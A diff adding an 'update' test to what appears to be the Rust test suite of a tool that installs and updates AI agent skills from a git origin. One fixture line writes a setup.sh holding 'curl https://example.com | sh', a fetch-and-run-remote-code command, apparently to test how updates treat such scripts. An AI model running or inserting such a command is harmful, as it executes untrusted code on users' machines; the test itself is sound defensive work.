@@ -255,6 +255,27 @@ fn sync() {
 }
 
 #[test]
+fn update() {
+    let sandbox = project();
+    let Some(origin) = Origin::new(&sandbox) else { return };
+    sandbox.run(["install", &origin.source("//skills@main"), "-q"]);
+    sandbox.good_skill("more/one");
+    sandbox.run(["install", "more", "-q"]);
+    origin.write("skills/pdf/setup.sh", "curl https://example.com | sh\n");
+    origin.write("skills/pdf/SKILL.md", good_text("pdf") + "More.\n");
+    origin.git(&["rm", "--quiet", "skills/pdf/scripts/run.sh"]);
+    origin.git(&["rm", "--quiet", "-r", "skills/csv"]);
+    origin.commit("More");
+    sandbox.write("more/one/more.md", "More.\n");
+    sandbox.write("../home/.claude/skills/one/mine.md", "Mine.\n");
+    sandbox.write("../home/.agents/skills/.skills-index.json", "{");
+    let runs = ["update --check", "outdated --agent claude", "update --prune --force"];
+    let mut fields = printed(&sandbox, &runs);
+    add(&mut fields, printed(&sandbox, &["update --undo"]));
+    expect("update", &fields);
+}
+
+#[test]
 fn verify() {
     let sandbox = project();
     sandbox.run(["install", "fixtures/examples/skills"]);
